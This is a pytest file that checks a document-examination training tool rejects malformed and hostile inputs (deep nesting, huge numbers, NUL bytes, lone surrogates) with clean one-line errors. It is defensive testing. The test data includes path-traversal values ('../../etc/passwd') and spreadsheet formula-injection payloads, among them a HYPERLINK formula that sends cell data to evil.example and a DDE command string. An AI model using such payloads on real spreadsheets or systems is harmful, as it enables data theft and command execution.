"""Hostile files, fields and names (issue 15): each a clear one-line error naming the file, never a traceback.

Every case here ended in a traceback, a hang or stored garbage before the
shared reading layer (:mod:`docexam.formats.reading`) and the limits of
:mod:`docexam.formats.fields`.
"""

from __future__ import annotations

import copy
import csv
import datetime as dt
import json
import re
import subprocess
import sys
import uuid
from pathlib import Path

import pytest
import sqlalchemy as sa

from docexam.cli import main
from docexam.errors import InputFileError, InvalidFieldError
from docexam.formats import workshop_export
from docexam.formats.reading import parse_json, parse_toml
from docexam.lessons.format import load_lesson, parse_lesson
from docexam.paths import lessons_dir
from docexam.specimens.model import load_template
from docexam.specimens.registry import load_specimen
from docexam.training import TrainingRecord, kdf, schema
from docexam.training.errors import DatabaseValueError
from docexam.training.exchange import export_data
from docexam.training.report import key_results, to_csv

DEEP = 200_000


@pytest.fixture(autouse=True)
def fast_kdf(monkeypatch):
    monkeypatch.setattr(kdf, "SCRYPT_N", 2**8)


def _cli(capsys, *argv):
    status = main(list(map(str, argv)))
    out, err = capsys.readouterr()
    return status, out, err


def _one_line(err: str) -> str:
    assert err.startswith("docexam: ") and err.count("\n") == 1 and "Traceback" not in err, err
    return err


# ------------------------------------------------------------ workshop import

@pytest.fixture
def record(db_url):
    with TrainingRecord.open(db_url) as rec:
        yield rec


@pytest.fixture(scope="module")
def clean_export(tmp_path_factory) -> dict:
    """A small workshop's export (one trainee, one answer, one survey), from a laptop's own database."""
    kdf.SCRYPT_N, cost = 2**8, kdf.SCRYPT_N
    try:
        return _make_export(tmp_path_factory.mktemp("laptop"))
    finally:
        kdf.SCRYPT_N = cost


def _make_export(tmp_path) -> dict:
    with TrainingRecord.open(f"sqlite:///{tmp_path / 'laptop.sqlite3'}") as laptop:
        ws = laptop.create_workshop(title="Document examination", place="Poipet", province="Banteay Meanchey",
                                    start_date=dt.date(2025, 3, 3), end_date=dt.date(2025, 3, 5),
                                    trainers=["Sok Dara"], code="KK-01")
        me = laptop.register_trainee(name="Sok Chea", department="Immigration", province="Koh Kong", pin="1234")
        laptop.join_workshop(me.id, ws.code)
        laptop.record_attempt(uuid=str(uuid.uuid4()), trainee_id=me.id, workshop_id=ws.id, item_id="mrz-01",
                              item_type="verdict", topic="mrz", form="pre", score=1.0, correct=True,
                              answer={"verdict": "forged"}, specimen_genuine=False)
        laptop.record_survey(trainee_id=me.id, workshop_id=ws.id, relevance=5, overall=4, comments="Useful.")
        return export_data(laptop, ws.code)


def _set(key_path, value):
    def change(doc):
        *parents, last = key_path
        target = doc
        for part in parents:
            target = target[part]
        target[last] = value
        return json.dumps(doc)
    return change


def _raw(replace_from, replace_to):
    def change(doc):
        text = json.dumps(doc)
        assert replace_from in text
        return text.replace(replace_from, replace_to, 1)
    return change


HOSTILE_EXPORTS = {
    # field, what breaks, the message's fragment
    "time-overflow": (_set(("attempts", 0, "answered_at"), "9999-12-31T23:59:59-14:00"),
                      "attempts[0].answered_at: '9999-12-31T23:59:59-14:00' is out of range"),
    "lone-surrogate": (_set(("trainees", 0, "name"), "Sok \ud800Chea"), "lone surrogate"),
    "deep-nesting": (_raw('"merges": ', '"x": ' + "[" * DEEP + "]" * DEEP + ', "merges": '),
                     "nested deeper than 64 levels"),
    "5000-digit-number": (_raw('"relevance": 5', '"relevance": ' + "5" * 5000), "a number of 5000 characters"),
    "nan": (_raw('"score": 1.0', '"score": NaN'), "NaN is not a number"),
    "5-MB-name": (_set(("trainees", 0, "name"), "S" * 5_000_000), "longer than"),
    "name-over-the-column": (_set(("trainees", 0, "name"), "S" * 201), "trainees[0].name: longer than 200"),
    "1-MB-comment": (_set(("surveys", 0, "comments"), "c" * 1_000_000), "longer than"),
    "comment-over-the-limit": (_set(("surveys", 0, "comments"), "c" * 2001), "surveys[0].comments: longer than 2000"),
    "nul": (_set(("trainees", 0, "department"), "Immi\x00gration"), "trainees[0].department: contains a NUL"),
}


@pytest.mark.parametrize("case", HOSTILE_EXPORTS)
def test_hostile_workshop_export_is_one_error_naming_the_file(case, record, clean_export, tmp_path):
    change, fragment = HOSTILE_EXPORTS[case]
    path = tmp_path / "kk-01-export.json"
    path.write_text(change(copy.deepcopy(clean_export)), encoding="utf-8")
    before = {t.name: _count(record, t) for t in schema.metadata.sorted_tables}
    with pytest.raises(InputFileError) as caught:
        record.import_workshop(path, allow_unverified=True)
    message = str(caught.value)
    assert message.startswith(f"{path}: ") and fragment in message and "\n" not in message, message
    assert len(message) < 400
    assert {t.name: _count(record, t) for t in schema.metadata.sorted_tables} == before


def test_import_names_the_uploaded_file_not_its_temporary_copy(record, clean_export, tmp_path):
    temporary = tmp_path / "tmpab12cd" / "import.json"
    temporary.parent.mkdir()
    temporary.write_text(_set(("trainees", 0, "name"), "\ud800")(copy.deepcopy(clean_export)), encoding="utf-8")
    with pytest.raises(InputFileError, match=r"^kk-01\.json: trainees\[0\]\.name: contains a lone surrogate"):
        record.import_workshop(temporary, allow_unverified=True, name="kk-01.json")


def test_a_clean_export_still_imports(record, clean_export, tmp_path):
    path = tmp_path / "kk-01.json"
    doc = copy.deepcopy(clean_export)
    doc["trainees"][0]["name"] = "Jose\u0301 Chea"  # decomposed: stored composed (NFC)
    path.write_text(json.dumps(doc), encoding="utf-8")
    result = record.import_workshop(path, allow_unverified=True)
    assert result.added["attempts"] == 1 and result.added["surveys"] == 1
    assert export_data(record, "KK-01")["trainees"][0]["name"] == "Jos\u00e9 Chea"


def test_export_limits_are_the_databases_own():
    """The export's text limits are the training record's column lengths: an import stores what typing could."""
    columns = {("trainees", "name"): schema.trainees.c.name, ("trainees", "department"): schema.trainees.c.department,
               ("trainees", "rank"): schema.trainees.c.rank, ("workshop", "title"): schema.workshops.c.title,
               ("workshop", "place"): schema.workshops.c.place, ("attempts", "item_id"): schema.attempts.c.item_id,
               ("attempts", "item_type"): schema.attempts.c.item_type, ("attempts", "topic"): schema.attempts.c.topic,
               ("attempts", "lesson_id"): schema.attempts.c.lesson_id}
    models = {"trainees": workshop_export.Trainee, "workshop": workshop_export.Workshop,
              "attempts": workshop_export.Attempt}
    for (table, field), column in columns.items():
        props = models[table].model_json_schema()["properties"][field]
        limit = props.get("maxLength") or next(p["maxLength"] for p in props["anyOf"] if "maxLength" in p)
        assert limit == column.type.length, (table, field)


def _count(record, table) -> int:
    with record.engine.connect() as conn:
        return conn.scalar(sa.select(sa.func.count()).select_from(table))


@pytest.mark.postgres
def test_a_value_postgresql_refuses_is_a_typed_error(db_url):
    if not db_url.startswith("postgresql"):
        pytest.skip("SQLite does not enforce column lengths")
    with TrainingRecord.open(db_url) as record:
        with pytest.raises(DatabaseValueError, match="the database refused a value .*nothing was written"):
            with record.write() as conn:
                conn.execute(schema.trainees.insert().values(
                    uid=str(uuid.uuid4()), name="x" * 500, department="d", province="p", rank="",
                    identity_key="k", created_at=dt.datetime.now(dt.timezone.utc)))


# ------------------------------------------------------------------- databases

def _not_a_database(tmp_path):
    path = tmp_path / "notes.sqlite3"
    path.write_text("hello, this is not a database\n" * 100, encoding="utf-8")
    return f"sqlite:///{path}", "file is not a database"


def _truncated(tmp_path):
    good = tmp_path / "good.sqlite3"
    TrainingRecord.open(f"sqlite:///{good}").close()
    cut = tmp_path / "cut.sqlite3"
    cut.write_bytes(good.read_bytes()[:8192])
    return f"sqlite:///{cut}", "cannot open the training database"


@pytest.mark.parametrize("make, argv", [
    (_not_a_database, ["workshop", "list"]),
    (_truncated, ["workshop", "list"]),
    (lambda tmp: ("mysql://officer:secret@localhost/docexam", "SQLite (sqlite:///FILE) or PostgreSQL"),
     ["workshop", "list"]),
    (lambda tmp: (f"sqlite:///{tmp / 'ok.sqlite3'}", "unknown workshop '99999999999999999999999'"),
     ["report", "workshop", "99999999999999999999999"]),
    (lambda tmp: (f"sqlite:///{tmp / 'ok.sqlite3'}", "unknown workshop"), ["report", "workshop", "²"]),
], ids=["not-a-database", "truncated", "mysql-url", "huge-workshop-id", "unicode-digit-id"])
def test_bad_database_is_one_line_exit_2(make, argv, tmp_path, capsys):
    url, fragment = make(tmp_path)
    status, out, err = _cli(capsys, *argv, "--database", url)
    assert status == 2, err
    assert fragment in _one_line(err), err
    assert "secret" not in err


# ------------------------------------------------------------------ lessons

def _shipped_lesson() -> tuple[Path, str]:
    path = sorted(lessons_dir().glob("*.toml"))[0]
    return path, path.read_text(encoding="utf-8")


def test_lesson_with_a_hostile_line_is_checked_at_once(tmp_path):
    """``[`` and a million spaces made the line scanner backtrack for hours; now it is linear.

    (Its time is printed by ``benchmarks/hostile_lesson.py``; here a subprocess
    bound makes a hang fail the test rather than the suite.)
    """
    _, text = _shipped_lesson()
    hostile = tmp_path / "hostile.toml"
    hostile.write_text("junk = [\n[" + " " * 1_000_000 + "\n]]\n" + text, encoding="utf-8")
    done = subprocess.run([sys.executable, "-m", "docexam", "lessons", "check", str(hostile)],
                          capture_output=True, text=True, timeout=120)
    assert done.returncode == 2
    assert re.fullmatch(rf"docexam: {re.escape(str(hostile))}: line 1: junk: unknown key .*\n", done.stderr)


@pytest.mark.parametrize("change, fragment", [
    (lambda t: t.replace('technique = "erasure"', 'technique = " erasure "\nfamily = "substrate"', 1),
     "figures[1].technique: ' erasure ' is not a technique"),
    (lambda t: re.sub(r'^id = "([a-z-]+)"', r'id = "\1\\n"', t, count=1, flags=re.M), "id: "),
    (lambda t: t + "\njunk = " + "[" * DEEP + "]" * DEEP + "\n", "TOML: nested deeper than 64 levels"),
    (lambda t: t + "\njunk = " + "9" * 5000 + "\n", "TOML: a value out of range"),
    (lambda t: t + "\njunk = 1e999\n", "TOML: 1e999 is not a number"),
    (lambda t: t + '\njunk = "\\ud800"\n', "TOML"),
    (lambda t: t.replace('title = "', 'title = "\\u0000', 1), "title: contains a NUL"),
], ids=["technique-with-spaces", "id-with-newline", "deep-nesting", "5000-digits", "inf", "surrogate", "nul"])
def test_hostile_lesson_is_one_error(change, fragment, tmp_path):
    _, text = _shipped_lesson()
    path = tmp_path / "l.toml"
    path.write_text(change(text), encoding="utf-8")
    with pytest.raises(InvalidFieldError) as caught:
        load_lesson(path)
    assert str(caught.value).startswith(f"{path}: ") and fragment in str(caught.value), str(caught.value)


def test_lesson_with_a_byte_order_mark_is_read(tmp_path):
    shipped, text = _shipped_lesson()
    path = tmp_path / "bom.toml"
    path.write_bytes(b"\xef\xbb\xbf" + text.encode("utf-8"))
    assert load_lesson(path).id == parse_lesson(text, shipped).id


# ------------------------------------------------------------ ids and names

def test_template_id_ending_in_a_newline_is_refused(docexam_home, tmp_path, capsys):
    zones = tmp_path / "z.json"
    zones.write_text('[{"name": "mrz", "kind": "mrz", "bbox": [1, 1, 9, 9]}]', encoding="utf-8")
    status, out, err = _cli(capsys, "template", "add", "--id", "nl\n", "--name", "x", "--format", "TD3",
                            "--visible", tmp_path / "missing.png", "--zones", zones)
    assert status == 2 and "kebab-case" in err, err
    assert not (docexam_home / "templates").exists() or not any((docexam_home / "templates").iterdir())


# ------------------------------------------------------- templates, sidecars

def _template_folder(tmp_path, zones_json: str) -> Path:
    src = Path(load_template.__code__.co_filename).parents[2] / "specimens" / "templates" / "uto-td3"
    folder = tmp_path / "t"
    folder.mkdir()
    data = json.loads((src / "template.json").read_text(encoding="utf-8"))
    for name in data["images"].values():
        (folder / name).write_bytes((src / name).read_bytes())
    data.pop("zones")
    text = json.dumps(data)  # the zones last, as the hostile text
    (folder / "template.json").write_text(text[:-1] + ', "zones": ' + zones_json + "}", encoding="utf-8")
    return folder


@pytest.mark.parametrize("zones, fragment", [
    ("[" * DEEP + "]" * DEEP, "nested deeper than 64 levels"),
    ('[{"name": "mrz", "kind": "mrz", "bbox": [1, 1, 9, 1' + "0" * 5000 + "]}]", "a number of 5001 characters"),
    ('[{"name": "mrz\\ud800", "kind": "mrz", "bbox": [1, 1, 9, 9]}]', "zones[0].name: contains a lone surrogate"),
    ('[{"name": "mrz", "kind": "mrz", "bbox": [1, 1, 9, 9e999]}]', "9e999 is too large"),
], ids=["deep", "huge-number", "surrogate", "inf"])
def test_hostile_template_json_is_one_error(zones, fragment, tmp_path):
    folder = _template_folder(tmp_path, zones)
    with pytest.raises(InvalidFieldError) as caught:
        load_template(folder)
    assert fragment in str(caught.value) and "template.json" in str(caught.value), str(caught.value)


@pytest.fixture
def sidecar(shipped_library_folder, tmp_path):
    """A copy of a forged shipped specimen (sidecar and images) with its mask."""
    src = next(p for p in sorted(shipped_library_folder.glob("*.json"))
               if json.loads(p.read_text(encoding="utf-8")).get("mask"))
    name = src.name[:-5]
    for f in shipped_library_folder.glob(f"{name}.*"):
        (tmp_path / f.name).write_bytes(f.read_bytes())
    return tmp_path / src.name


@pytest.mark.parametrize("mask", ["../../etc/passwd", "/etc/passwd", "..", "sub/x.mask.png"])
def test_sidecar_mask_outside_its_folder_is_refused_on_load(sidecar, mask):
    data = json.loads(sidecar.read_text(encoding="utf-8"))
    assert load_specimen(sidecar).mask_path.parent == sidecar.parent
    data["mask"] = mask
    sidecar.write_text(json.dumps(data), encoding="utf-8")
    with pytest.raises(InvalidFieldError, match=r"mask: must be a file name in the same folder"):
        load_specimen(sidecar)


@pytest.mark.parametrize("tail, fragment", [
    ("[" * DEEP, "nested deeper"), ('"\\udfff"', "lone surrogate"), ("1" * 5000, "a number of 5000 characters"),
])
def test_hostile_sidecar_is_one_error(sidecar, tail, fragment):
    text = sidecar.read_text(encoding="utf-8")
    sidecar.write_text(text[:text.rindex("}")] + ', "extra_field": ' + tail + "}", encoding="utf-8")
    with pytest.raises(InvalidFieldError, match=re.escape(fragment)):
        load_specimen(sidecar)


# --------------------------------------------------------------------- exports

def test_key_results_csv_is_spreadsheet_safe(tmp_path):
    with TrainingRecord.open(f"sqlite:///{tmp_path / 'r.sqlite3'}") as record:
        record.create_workshop(title='=HYPERLINK("http://evil.example/?"&A1,"Open")', place="+cmd|' /C calc'!A0",
                               province="@SUM(1+1)", start_date=dt.date(2025, 3, 3), end_date=dt.date(2025, 3, 5),
                               trainers=["-2+3", "\tTab"], code="KK-02")
        me = record.register_trainee(name="=1+1", department="-Dept", province="\rKoh Kong", pin="1234")
        record.join_workshop(me.id, "KK-02")
        text = to_csv(key_results(record, "KK-02"))
    cells = [cell for row in csv.reader(text.splitlines()) for cell in row]
    assert "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Open\")" in cells
    assert any(c.startswith("'+cmd") for c in cells) and "'-2+3; Tab" in cells
    formula = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r") and not re.fullmatch(r"-?[0-9.]+", c)]
    assert formula == [], formula


def test_spreadsheet_safe_keeps_numbers():
    from docexam.training.report import spreadsheet_safe
    assert [spreadsheet_safe(v) for v in ("-0.35", "12", "-", "+1", "@x", "a=b")] == \
        ["-0.35", "12", "'-", "'+1", "'@x", "a=b"]


# ------------------------------------------------------------ reading layer

@pytest.mark.parametrize("text, fragment", [
    ("[" * DEEP, "nested deeper"), ('"' + "\\ud800" + '"', "lone surrogate"), ("-Infinity", "-Infinity"),
    ("1" * 41, "a number of 41 characters"), ('{"a": 1, "a": 2}', "appears twice"), ("[1,", "JSON"),
    ('["\\u0000"]', "NUL"), ("9223372036854775808", "beyond 64 bits"),
])
def test_parse_json_refuses(text, fragment):
    with pytest.raises(InvalidFieldError, match=re.escape(fragment)):
        parse_json(text, "f.json")


@pytest.mark.parametrize("text, fragment", [
    ("a = " + "[" * DEEP, "nested deeper"), ("a = " + "{x = " * DEEP, "nested deeper"),
    ("a = 9999-12-31T23:59:59-14:00", "a time out of range"), ("a = nan", "nan is not a number"),
    ("a = 9223372036854775808", "beyond 64 bits"), ('a = "x\\u0000"', "NUL"),
    ("a." * 100 + "b = 1", "nested deeper"), ("a" + ".a" * 500_000 + " = 1", "a key nested deeper than 64"),
    ('"a".' * 100 + "b = 1", "a key nested deeper"),
])
def test_parse_toml_refuses(text, fragment):
    with pytest.raises(InvalidFieldError, match=re.escape(fragment)):
        parse_toml(text, "f.toml")


def test_brackets_inside_strings_and_comments_do_not_count():
    assert parse_toml("x = [" + ", ".join(["1.5"] * 200) + "]\nt = 1979-05-27T07:32:00.999Z\n", "f.toml")["x"][199] == 1.5
    assert parse_toml('a = "' + "[" * 500 + '"  # ' + "{" * 500 + "\nb = '''" + "[" * 500 + "'''", "f.toml")["b"]
    assert parse_json('{"a": "' + "[" * 500 + '\\"' + "{" * 500 + '"}', "f.json")["a"].endswith("{")


def test_reading_never_reads_without_bound():
    from docexam.formats.reading import read_bytes
    with pytest.raises(InputFileError, match="larger than 1 kB"):
        read_bytes("/dev/zero", max_bytes=1024)


def test_not_utf8_names_the_line():
    with pytest.raises(InvalidFieldError, match="f.json: line 2: encoding: not UTF-8 text"):
        parse_json(b'{\n"a": "\xff"}', "f.json")


def test_mrz_read_of_dev_zero_is_refused_not_read_without_bound(monkeypatch, capsys):
    from docexam.imaging import load

    monkeypatch.setattr(load, "MAX_FILE_BYTES", 2**20)  # 200 MB in the app; 1 MB keeps the test light
    status, out, err = _cli(capsys, "mrz", "read", "/dev/zero")
    assert status == 2 and "/dev/zero: file is 1 MB, more than the 1 MB allowed" in _one_line(err), err
